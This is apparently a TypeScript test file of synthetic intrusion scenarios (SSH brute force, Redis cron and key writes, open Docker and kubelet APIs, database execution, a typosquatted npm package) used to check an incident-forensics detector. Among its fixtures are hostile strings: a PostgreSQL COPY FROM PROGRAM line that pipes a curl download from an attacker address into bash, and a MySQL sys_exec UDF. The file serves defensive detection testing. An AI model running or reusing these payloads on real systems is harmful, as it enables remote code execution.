/** Scenarios in which there is a way in, and logs or files tell it. */
import { expect } from 'bun:test';
import {
  accepted,
  container,
  door,
  entry,
  event,
  failures,
  key,
  left,
  miner,
  read,
  service,
  text,
} from '../../src/incident/incident.fixture.ts';
import type { Scenario } from './scenario.ts';

const attacker = '203.0.113.66';
const dump = { dumped: true } as const;
const request = (
  when: string,
  client: string,
  method: string,
  target: string,
  status: number,
  agent = 'curl/8',
) =>
  event(when, {
    what: 'request',
    server: 'nginx',
    client: text(client),
    method: text(method),
    target: text(target),
    status,
    size: 10,
    agent: text(agent),
    referrer: text('-'),
    account: text('-'),
  });
const asked = (
  when: string,
  runtime: 'docker' | 'kubernetes',
  action: 'created' | 'executed' | 'request',
  { from = '', account = '', name = '', detail = '' } = {},
) =>
  event(when, {
    what: 'container',
    runtime,
    action,
    container: text(name),
    image: text(''),
    account: text(account),
    from: text(from),
    detail: text(detail),
  });
const ran = (when: string, account: string, command: string) =>
  event(when, { what: 'command', origin: 'history', account: text(account), command: text(command) });

export const doors: readonly Scenario[] = [
  {
    name: 'SSH: guessed in an hour, a script, a crontab, a miner',
    events: read(
      failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']) +
        accepted('2024-03-10 02:31:00', 'root', attacker),
    ),
    scene: {
      files: [left('/root/.x/run.sh', '2024-03-10 02:33:00')],
      entries: [entry('cron-user', '/var/spool/cron/crontabs/root', '2024-03-10 02:34:00')],
      miners: [miner('2024-03-10 02:35:00')],
    },
    ways: [
      {
        vector: 'ssh-brute-force',
        grade: 'confirmed',
        account: 'root',
        attackers: [attacker],
        success: '2024-03-10 02:31:00',
        missing: [],
        chain: ['attempt', 'success', 'file', 'persistence', 'miner'],
      },
    ],
  },
  {
    name: 'SSH: two accounts guessed by two addresses: one door, one confirmed',
    events: read(
      failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'git']) +
        accepted('2024-03-10 02:31:00', 'root', attacker) +
        failures('2024-03-10 02:31:30', 90, 2, ['192.0.2.9'], ['git', 'admin', 'www']) +
        accepted('2024-03-10 02:36:00', 'git', '192.0.2.9'),
    ),
    scene: {
      files: [
        left('/root/.x/run.sh', '2024-03-10 02:33:00'),
        left('/home/git/.y', '2024-03-10 02:37:00', 'git'),
      ],
    },
    ways: [
      { vector: 'ssh-brute-force', grade: 'confirmed', account: 'root', attackers: [attacker] },
      { vector: 'ssh-brute-force', grade: 'probable', account: 'git', attackers: ['192.0.2.9'] },
    ],
  },
  {
    name: 'SSH: a planted key is used',
    events: read(accepted('2024-03-10 02:31:00', 'root', attacker, 'SHA256:ppppppppppppppppppppp')),
    scene: {
      files: [left('/root/.x/run.sh', '2024-03-10 02:33:00')],
      keys: [key('SHA256:ppppppppppppppppppppp', '2024-03-09 00:00:00', true)],
    },
    ways: [{ vector: 'ssh-key', grade: 'confirmed', account: 'root', attackers: [attacker] }],
  },
  {
    name: 'Redis: a crontab that is a dump, with the save and a stranger in its log',
    events: [
      service('2024-03-10 02:30:50', 'redis', 'cross-protocol', { from: attacker }),
      service('2024-03-10 02:31:00', 'redis', 'saved'),
    ],
    scene: { entries: [entry('cron-user', '/var/spool/cron/root', '2024-03-10 02:31:00', dump)] },
    ways: [
      {
        vector: 'redis-cron',
        grade: 'confirmed',
        account: 'redis',
        attackers: [attacker],
        success: '2024-03-10 02:31:00',
        missing: [],
      },
    ],
  },
  {
    name: 'Redis: the same without its log is probable, and says so',
    events: [],
    scene: { entries: [entry('cron-drop-in', '/etc/cron.d/ntp', '2024-03-10 02:31:00', dump)] },
    ways: [{ vector: 'redis-cron', grade: 'probable', missing: ['no-success-logged'], attackers: [] }],
  },
  {
    name: 'Redis: a key in a dump',
    events: [service('2024-03-10 02:31:00', 'redis', 'saved')],
    scene: {
      entries: [entry('ssh-authorized-key', '/root/.ssh/authorized_keys', '2024-03-10 02:31:01', dump)],
    },
    ways: [{ vector: 'redis-key', grade: 'confirmed' }],
  },
  {
    name: 'Redis: made a replica of a stranger, and a module',
    events: [
      service('2024-03-10 02:30:00', 'redis', 'replica-of', { from: attacker }),
      service('2024-03-10 02:30:10', 'redis', 'module-loaded', { detail: 'system /tmp/exp.so' }),
    ],
    scene: {
      files: [left('/tmp/.x', '2024-03-10 02:31:00', 'redis')],
      miners: [miner('2024-03-10 02:32:00', 'redis')],
    },
    ways: [{ vector: 'redis-replication', grade: 'confirmed', attackers: [attacker], account: 'redis' }],
  },
  {
    name: "Docker: the host's root bound by a stranger, through an open API",
    events: [
      request('2024-03-10 02:30:00', attacker, 'GET', '/v1.24/containers/json', 200),
      request('2024-03-10 02:31:00', attacker, 'POST', '/v1.24/containers/create', 201),
    ],
    scene: {
      containers: [container('deadbeef0001', { startedUs: Date.UTC(2024, 2, 10, 2, 31, 2) * 1000 })],
      entries: [
        entry(
          'docker-container',
          '/var/lib/docker/containers/deadbeef0001/config.v2.json',
          '2024-03-10 02:31:02',
        ),
      ],
      doors: [door('docker', 2375)],
    },
    ways: [
      {
        vector: 'docker-api',
        grade: 'confirmed',
        attackers: [attacker],
        account: 'root',
        success: '2024-03-10 02:31:00',
      },
    ],
  },
  {
    name: 'Docker: only its own state is left',
    events: [],
    scene: {
      containers: [container('deadbeef0001', { startedUs: Date.UTC(2024, 2, 10, 2, 31, 2) * 1000 })],
      doors: [door('docker', 2375)],
    },
    ways: [{ vector: 'docker-api', grade: 'probable', missing: ['no-success-logged'] }],
  },
  {
    name: 'Kubernetes: anonymous creates a daemon set',
    events: [
      asked('2024-03-10 02:30:00', 'kubernetes', 'request', {
        from: attacker,
        account: 'system:anonymous',
        detail: 'list 403 /api/v1/pods',
      }),
      asked('2024-03-10 02:31:00', 'kubernetes', 'created', {
        from: attacker,
        account: 'system:anonymous',
        detail: 'create 201 /apis/apps/v1',
      }),
    ],
    scene: { miners: [miner('2024-03-10 02:32:00', 'root', { container: 'abc' })] },
    ways: [{ vector: 'kubelet', grade: 'confirmed', attackers: [attacker], account: 'system:anonymous' }],
  },
  {
    name: 'kubelet: run from outside the cluster',
    events: [
      asked('2024-03-10 02:31:00', 'kubernetes', 'executed', {
        from: attacker,
        detail: 'POST 101 /exec/default/web/c',
      }),
    ],
    scene: { files: [left('/tmp/x', '2024-03-10 02:32:00')] },
    ways: [{ vector: 'kubelet', grade: 'confirmed', attackers: [attacker] }],
  },
  {
    name: 'PostgreSQL: COPY FROM PROGRAM that fetches',
    events: [
      service('2024-03-10 02:31:00', 'postgresql', 'statement', {
        from: attacker,
        account: 'postgres',
        detail: "COPY t FROM PROGRAM 'curl -s http://203.0.113.66/pg.sh|bash';",
      }),
    ],
    scene: { files: [left('/tmp/.pg', '2024-03-10 02:31:05', 'postgres')] },
    ways: [{ vector: 'database-exec', grade: 'confirmed', account: 'postgres', attackers: [attacker] }],
  },
  {
    name: 'MySQL: a function of a library that was dumped',
    events: [
      service('2024-03-10 02:31:00', 'mysql', 'statement', {
        detail: "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf.so'",
      }),
    ],
    scene: { files: [left('/tmp/.my', '2024-03-10 02:33:05', 'mysql')] },
    ways: [{ vector: 'database-exec', grade: 'confirmed', account: 'mysql' }],
  },
  {
    name: 'YARN: dr.who submits',
    events: [
      service('2024-03-10 02:31:00', 'yarn', 'application', {
        from: attacker,
        account: 'dr.who',
        detail: 'application_1',
      }),
    ],
    scene: { files: [left('/tmp/.y', '2024-03-10 02:31:30', 'yarn')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'yarn', attackers: [attacker] }],
  },
  {
    name: 'Spark: a driver submitted by a stranger',
    events: [request('2024-03-10 02:31:00', attacker, 'POST', '/v1/submissions/create', 200)],
    scene: { files: [left('/opt/spark/work/.x', '2024-03-10 02:31:30', 'spark')] },
    ways: [{ vector: 'scheduler', grade: 'confirmed', account: 'spark', attackers: [attacker] }],
  },
  {
    name: 'XXL-JOB: no log, but an open executor and a miner of its account',
    events: [],
    scene: { miners: [miner('2024-03-10 02:32:00', 'xxl-job')], doors: [door('xxl-job', 9999)] },
    ways: [
      {
        vector: 'scheduler',
        grade: 'possible',
        account: 'xxl-job',
        missing: ['no-success-logged', 'no-file-within-minutes'],
      },
    ],
  },
  {
    name: 'ActiveMQ: beans from an address',
    events: [
      service('2024-03-10 02:31:00', 'activemq', 'beans-loaded', { detail: 'http://203.0.113.66/poc.xml' }),
    ],
    scene: { files: [left('/tmp/.a', '2024-03-10 02:31:30', 'activemq')] },
    ways: [{ vector: 'broker', grade: 'confirmed', account: 'activemq' }],
  },
  {
    name: 'npm: a hook of a package that was just installed',
    events: [ran('2024-03-10 02:30:00', 'dev', 'npm install leftpadd')],
    scene: { files: [left('/home/dev/app/node_modules/leftpadd/m.js', '2024-03-10 02:30:20', 'dev')] },
    ways: [{ vector: 'supply-chain', grade: 'confirmed', account: 'dev', attackers: [] }],
  },
  {
    name: 'a neighbour that findings name comes as it always does',
    events: read(
      accepted('2024-03-01 01:00:00', 'root', '10.0.0.9', 'SHA256:nnnnnnnnnnnnnnnnnnnnnn') +
        accepted('2024-03-10 02:31:00', 'root', '10.0.0.9', 'SHA256:nnnnnnnnnnnnnnnnnnnnnn'),
    ),
    scene: { files: [left('/root/.x', '2024-03-10 02:32:00')], addresses: new Set(['10.0.0.9']) },
    ways: [{ vector: 'lateral', grade: 'confirmed', account: 'root', attackers: ['10.0.0.9'] }],
  },
  {
    name: 'SSH: a subnet in turn, and then one of it that never failed',
    events: read(
      failures(
        '2024-03-10 00:00:00',
        60,
        140,
        Array.from({ length: 20 }, (_, index) => `203.0.113.${index}`),
        ['root', 'admin', 'pi'],
      ) + accepted('2024-03-10 02:31:00', 'root', '203.0.113.200'),
    ),
    scene: { files: [left('/root/.x', '2024-03-10 02:32:00')] },
    ways: [{ vector: 'ssh-brute-force', grade: 'confirmed', attackers: ['203.0.113.200'] }],
  },
  {
    name: 'SSH: one try every six hours, for weeks',
    events: read(
      failures('2024-02-20 00:00:00', 70, 6 * 3600, [attacker], ['root', 'admin', 'pi', 'oracle']) +
        accepted('2024-03-10 02:31:00', 'oracle', attacker),
    ),
    scene: { files: [left('/home/oracle/.x', '2024-03-10 02:32:00', 'oracle')] },
    ways: [{ vector: 'ssh-brute-force', grade: 'confirmed', account: 'oracle', attackers: [attacker] }],
  },
  {
    name: 'SSH: the right password of an account that was not tried before',
    events: read(
      failures('2024-03-10 02:00:00', 40, 20, [attacker], ['root']) +
        accepted('2024-03-10 02:31:00', 'admin', attacker),
    ),
    scene: { files: [left('/home/admin/.x', '2024-03-10 02:32:00', 'admin')] },
    ways: [{ vector: 'ssh-brute-force', grade: 'confirmed', account: 'admin', attackers: [attacker] }],
  },
  {
    name: 'SSH: auth.log was cleaned, wtmp and btmp were not',
    events: [
      ...read(failures('2024-03-10 02:00:00', 40, 20, [attacker], ['root', 'admin', 'pi'])),
      event('2024-03-10 02:31:00', {
        what: 'session',
        phase: 'opened',
        service: 'sshd',
        account: text('root'),
        from: text(attacker),
        terminal: text('pts/0'),
      }),
    ],
    scene: { files: [left('/root/.x', '2024-03-10 02:32:00')] },
    ways: [{ vector: 'ssh-brute-force', grade: 'probable', missing: ['log-wiped'], attackers: [attacker] }],
    also: ({ gaps }) => expect(gaps.map(({ what }) => what)).toEqual(['not-in-log']),
  },
  {
    name: 'Redis: the dump was cleaned away, its settings were not',
    events: [],
    scene: {
      entries: [
        entry('redis', '/etc/redis/redis.conf', '2024-03-10 02:31:00', { text: text('dir "/root/.ssh"') }),
      ],
    },
    ways: [{ vector: 'redis-key', grade: 'probable', missing: ['no-success-logged'] }],
  },
];
